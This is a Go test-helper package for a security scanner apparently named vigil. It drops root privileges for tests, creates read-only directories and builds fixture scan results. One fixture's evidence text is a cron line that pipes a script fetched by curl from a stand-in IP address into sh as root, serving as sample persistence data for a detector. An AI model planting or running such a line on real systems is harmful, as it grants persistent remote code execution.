// Package storetest helps tests of the store and of the commands using it:
// fixture scans, and running a test body without root's power to write
// anywhere (a read-only store directory means nothing to root).
package storetest

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/model"
)

const childEnv = "VIGIL_TEST_UNPRIVILEGED"

// Unprivileged reports whether the calling test body should run in this
// process. Unprivileged, it returns true. As root, it re-runs this one
// test in a copy of the test binary as uid/gid 65534 and returns false
// (the child's failure fails the test); in that child it returns true.
// Call it first in a top-level test (no subtests in the re-run name).
func Unprivileged(t *testing.T) bool {
	t.Helper()
	if os.Getenv(childEnv) == t.Name() || os.Geteuid() != 0 {
		return true
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := os.MkdirTemp("", "vigil-unpriv-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "test.bin")
	if err := copyFile(self, bin); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "-test.run=^"+regexp.QuoteMeta(t.Name())+"$", "-test.v=true", "-test.count=1")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), childEnv+"="+t.Name(), "HOME="+dir, "TMPDIR=")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s as uid 65534: %v\n%s", t.Name(), err, out)
	}
	if !regexp.MustCompile(`(?m)^--- PASS: ` + regexp.QuoteMeta(t.Name())).Match(out) {
		t.Fatalf("%s as uid 65534 did not run:\n%s", t.Name(), out)
	}
	t.Logf("ran as uid 65534:\n%s", out)
	return false
}

func copyFile(src, dst string) error {
	in, err := os.Open(src)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}

// ReadOnlyDir returns a new directory the process cannot write into (meant
// for an unprivileged process: see Unprivileged).
func ReadOnlyDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o555); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(dir, 0o755) })
	if f, err := os.Create(filepath.Join(dir, "probe")); err == nil {
		f.Close()
		t.Fatalf("%s is writable although it is mode 0555 (running with CAP_DAC_OVERRIDE?)", dir)
	}
	return dir
}

// Target is the fixture target of Result: a host with a machine id.
var Target = model.TargetInfo{Root: "/", Live: true, Hostname: "web1", OS: "Debian GNU/Linux 12 (bookworm)", MachineID: "0123456789abcdef0123456789abcdef"}

// Finding returns a fixture finding of rule on path, fingerprinted for
// Target, from check "check" (detector check@1).
func Finding(rule, path string, sev model.Severity, check string) model.Finding {
	f := model.Finding{
		RuleID: rule, Severity: sev, Confidence: model.ConfHigh, Category: "persistence", Subject: path,
		Evidence: model.Evidence{Path: path, Line: 3, Text: "* * * * * root curl http://203.0.113.7/x | sh", User: "root", When: "schedule", Package: model.NoPackage},
		Detector: check + "@1",
	}
	f.Fingerprint = model.Fingerprint(f.RuleID, Target.Key(), f.IdentityKey())
	return f
}

// Result returns a fixture scan of Target started at start with the given
// findings; each check named is reported "ok".
func Result(start time.Time, findings []model.Finding, checks ...string) *model.Result {
	r := &model.Result{
		SchemaVersion: model.SchemaVersion,
		Meta: model.ScanMeta{ID: start.UTC().Format("20060102T150405.000Z"), Tool: "vigil", Version: "test",
			Started: start.UTC(), Finished: start.Add(1500 * time.Millisecond).UTC(), Target: Target, Lang: "en", Kind: model.KindScan},
		Findings: findings,
		Gaps:     []model.Gap{{Check: "accounts", Kind: model.GapError, Path: "/etc/gshadow", Reason: "permission denied"}},
		Summary:  model.Summary{Counts: map[model.Severity]int{}, Total: len(findings), Gaps: 1},
	}
	for _, f := range findings {
		r.Summary.Counts[f.Severity]++
	}
	for _, c := range checks {
		r.Summary.Checks = append(r.Summary.Checks, model.CheckStatus{Name: c, Version: 1, Status: "ok"})
	}
	return r
}

// Many returns n distinct findings (for benchmarks and volume tests).
func Many(n int, salt string) []model.Finding {
	out := make([]model.Finding, n)
	for i := range out {
		out[i] = Finding(fmt.Sprintf("persistence.rule%d", i%40), fmt.Sprintf("/etc/cron.d/job-%s-%d", salt, i), model.Severity(i%5), "check")
	}
	return out
}
